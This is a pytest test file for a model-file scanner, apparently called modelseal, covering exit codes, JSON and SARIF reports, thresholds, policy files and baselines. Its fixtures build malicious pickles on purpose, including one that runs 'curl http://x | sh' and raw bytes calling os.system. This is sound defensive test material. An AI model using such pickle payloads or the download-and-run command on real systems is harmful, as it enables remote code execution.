"""`modelseal scan` as users and CI run it: exit codes, JSON schema, SARIF, thresholds, policy files."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from tests.conftest import without_root_privileges
from tests.integration.test_cli import modelseal, no_traceback
from tests.scanning.pickles import call, global_, stop, system, unicode


@pytest.fixture
def model_tree(tmp_path: Path) -> Path:
    root = tmp_path / "repo"
    (root / "sub").mkdir(parents=True)
    (root / "clean.pkl").write_bytes(stop(call(global_("collections", "OrderedDict"))))
    (root / "README.md").write_text("# a model\n")
    return root


def test_clean_directory_exits_0(model_tree: Path) -> None:
    result = modelseal("scan", model_tree)
    assert result.returncode == 0, result.stdout + result.stderr
    assert "PASS" in result.stdout


def test_malicious_file_exits_1_and_shows_the_payload(model_tree: Path) -> None:
    (model_tree / "sub" / "weights.bin").write_bytes(system("curl http://x | sh"))
    result = modelseal("scan", model_tree)
    assert result.returncode == 1
    assert "os.system('curl http://x | sh')" in result.stdout
    assert "FAIL" in result.stdout
    no_traceback(result)


def test_incomplete_scan_exits_3(model_tree: Path) -> None:
    (model_tree / "broken.pkl").write_bytes(b"\x80\x04\x95\xff\xff")
    result = modelseal("scan", model_tree)
    assert result.returncode == 3 and "INCONCLUSIVE" in result.stdout


def test_fail_on_threshold(model_tree: Path) -> None:
    (model_tree / "user.pkl").write_bytes(stop(call(global_("mypackage", "build"), unicode("x"))))  # HIGH
    assert modelseal("scan", model_tree).returncode == 1
    assert modelseal("scan", model_tree, "--fail-on", "critical").returncode == 0


def test_json_report_schema(model_tree: Path) -> None:
    (model_tree / "evil.pt").write_bytes(system())
    result = modelseal("scan", model_tree, "--format", "json")
    assert result.returncode == 1
    document = json.loads(result.stdout)
    assert document["schema_version"] == 1 and document["fail_on"] == "HIGH"
    assert document["summary"]["files"] == 3 and document["summary"]["findings"]["CRITICAL"] == 1
    evil = next(f for f in document["files"] if f["path"].endswith("evil.pt"))
    assert evil["format"] == "pickle" and evil["status"] == "scanned" and evil["worst"] == "CRITICAL"
    assert evil["findings"][0]["payload"] == "os.system('touch /tmp/x')"
    readme = next(f for f in document["files"] if f["path"].endswith("README.md"))
    assert readme["status"] == "unsupported"


def test_sarif_report(model_tree: Path, tmp_path: Path) -> None:
    (model_tree / "evil.pkl").write_bytes(system())
    output = tmp_path / "scan.sarif"
    result = modelseal("scan", "repo", "--format", "sarif", "--output", output, cwd=model_tree.parent)
    assert result.returncode == 1 and result.stdout == ""
    sarif = json.loads(output.read_text())
    assert sarif["version"] == "2.1.0"
    run = sarif["runs"][0]
    rule = run["tool"]["driver"]["rules"][0]
    assert rule["id"] == "PICKLE-DANGEROUS-CALL" and float(rule["properties"]["security-severity"]) >= 9.0
    location = run["results"][0]["locations"][0]["physicalLocation"]["artifactLocation"]
    assert location["uri"] == "repo/evil.pkl" and not location["uri"].startswith("/")


def test_policy_file_extends_the_allowlist(model_tree: Path, tmp_path: Path) -> None:
    (model_tree / "user.pkl").write_bytes(stop(call(global_("mypackage", "build"), unicode("x"))))
    policy = tmp_path / "policy.toml"
    policy.write_text('[allow]\nexact = ["mypackage.build"]\n')
    assert modelseal("scan", model_tree, "--policy", policy).returncode == 0


def test_bad_policy_file_exits_2(model_tree: Path, tmp_path: Path) -> None:
    policy = tmp_path / "policy.toml"
    policy.write_text("[allow\nexact = 1\n")
    result = modelseal("scan", model_tree, "--policy", policy)
    assert result.returncode == 2 and "not valid TOML" in result.stderr
    no_traceback(result)


def test_missing_path_exits_2(tmp_path: Path) -> None:
    assert modelseal("scan", tmp_path / "nope").returncode == 2


def test_baseline_accepts_known_findings_only(model_tree: Path, tmp_path: Path) -> None:
    (model_tree / "known.pkl").write_bytes(stop(call(global_("mypackage", "build"), unicode("x"))))
    baseline = tmp_path / "baseline.json"
    assert modelseal("scan", model_tree, "--format", "json", "--output", baseline).returncode == 1
    accepted = modelseal("scan", model_tree, "--baseline", baseline, "--format", "json")
    assert accepted.returncode == 0
    known = next(f for f in json.loads(accepted.stdout)["files"] if f["path"].endswith("known.pkl"))
    assert known["findings"] == [] and any("accepted by the baseline" in note for note in known["notes"])
    (model_tree / "new.pkl").write_bytes(system())
    assert modelseal("scan", model_tree, "--baseline", baseline).returncode == 1


def test_policy_ignore_paths_and_severity_overrides(model_tree: Path, tmp_path: Path) -> None:
    (model_tree / "sub" / "vendored.pkl").write_bytes(system())
    (model_tree / "user.pkl").write_bytes(stop(call(global_("mypackage", "build"), unicode("x"))))
    policy = tmp_path / "policy.toml"
    policy.write_text('[paths]\nignore = ["sub/*"]\n[severity]\nPICKLE-UNKNOWN-CALL = "medium"\n')
    result = modelseal("scan", model_tree, "--policy", policy, "--format", "json")
    assert result.returncode == 0, result.stdout
    paths = [f["path"] for f in json.loads(result.stdout)["files"]]
    assert not any(p.endswith("vendored.pkl") for p in paths)


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("[alow]\nexact = []\n", "unknown table"),
        ("[allow]\nexakt = []\n", "unknown key"),
        ('[allow]\nexact = "x"\n', "list of strings"),
        ('[severity]\nX = "severe"\n', "not a severity"),
    ],
)
def test_malformed_policies_are_rejected_not_ignored(tmp_path: Path, model_tree: Path, text: str, message: str) -> None:
    policy = tmp_path / "policy.toml"
    policy.write_text(text)
    result = modelseal("scan", model_tree, "--policy", policy)
    assert result.returncode == 2 and message in result.stderr


def test_json_report_matches_its_published_schema(model_tree: Path) -> None:
    import jsonschema

    from tests.conftest import REPO

    (model_tree / "evil.pkl").write_bytes(system())
    (model_tree / "broken.pkl").write_bytes(b"\x80\x04\x95\xff")
    document = json.loads(modelseal("scan", model_tree, "--format", "json").stdout)
    schema = json.loads((REPO / "docs" / "scan-report.schema.json").read_text())
    jsonschema.validate(document, schema)


# --- nothing unscanned is ever PASS (issue 10) ---------------------------------------------------------------


def test_unreadable_directory_and_file_are_inconclusive_and_the_scan_goes_on(model_tree: Path) -> None:
    import subprocess

    locked = model_tree / "locked"
    locked.mkdir()
    (locked / "evil.pkl").write_bytes(system())
    (model_tree / "secret.pkl").write_bytes(system())
    locked.chmod(0)
    (model_tree / "secret.pkl").chmod(0)
    try:
        result = subprocess.run(
            without_root_privileges("scan", "--format", "json", model_tree),
            capture_output=True,
            text=True,
            timeout=120,
            check=False,
        )
    finally:
        locked.chmod(0o755)
    assert result.returncode == 3, result.stdout + result.stderr
    files = {Path(entry["path"]).name: entry for entry in json.loads(result.stdout)["files"]}
    assert files["locked"]["status"] == "incomplete" and files["secret.pkl"]["status"] == "incomplete"
    assert files["clean.pkl"]["status"] == "scanned"  # one unreadable entry does not abandon the others


def test_empty_directory_is_inconclusive(tmp_path: Path) -> None:
    result = modelseal("scan", tmp_path)
    assert result.returncode == 3 and "no file was scanned" in result.stdout


def test_fifo_named_on_the_command_line_is_a_usage_error(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "pipe")
    result = modelseal("scan", tmp_path / "pipe")  # would block forever if opened
    assert result.returncode == 2 and "fifo" in result.stderr
    no_traceback(result)


def test_output_into_a_missing_directory_is_a_usage_error(model_tree: Path, tmp_path: Path) -> None:
    result = modelseal("scan", "--format", "json", "--output", tmp_path / "missing" / "report.json", model_tree)
    assert result.returncode == 2 and "does not exist" in result.stderr
    no_traceback(result)


def test_text_report_fits_80_columns(model_tree: Path) -> None:
    (model_tree / "sub" / "weights.bin").write_bytes(system("curl http://x | sh"))
    for index in range(10):
        (model_tree / f"notes-{index}.txt").write_text("plain text\n")
    result = modelseal("scan", ".", env={"COLUMNS": "80"}, cwd=model_tree)
    lines = result.stdout.splitlines()
    assert max(len(line) for line in lines) <= 80, result.stdout
    assert lines[0].startswith("modelseal scan: 13 file(s), 1 clean, 1 with findings, 11 data")
    assert result.stdout.count("data that carries no code") == 1  # data files folded into one paragraph
    assert "notes-0.txt unknown" not in result.stdout  # none of them gets a section of its own


def test_files_named_like_signatures_are_scanned(model_tree: Path) -> None:
    """Issue 12: a name never vouches for content; scan skipped model.sig and X.sig beside X at any depth."""
    (model_tree / "model.sig").write_text("{}")
    (model_tree / "sub").mkdir(exist_ok=True)
    (model_tree / "sub" / "model.meta.sig").write_bytes(b"cos\nsystem\n(S'touch /tmp/x'\ntR.")
    result = modelseal("scan", "--format", "json", model_tree)
    document = json.loads(result.stdout)
    assert document["summary"]["files"] == 4
    assert any(r["path"].endswith("model.meta.sig") and r["findings"] for r in document["files"])
